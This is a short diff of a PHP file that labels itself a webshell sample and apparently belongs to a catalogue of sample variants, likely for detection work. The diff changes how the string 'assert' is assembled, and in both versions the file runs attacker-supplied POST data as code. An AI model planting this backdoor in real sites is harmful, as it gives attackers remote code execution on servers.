@@ -1,7 +1,7 @@
 <?php
 /* Family: webshell/callback
- * Style: evaluator name built with substr_replace, called on POST data
+ * Style: evaluator name joined from an array with implode, called on POST data
  * Trait: a variable holding an assembled function name called with a request value as its argument
  */
-$k = substr_replace("asZZZ", "sert", 2);
+$k = implode('', array('as', 'se', 'rt'));
 $k($_POST['v']);
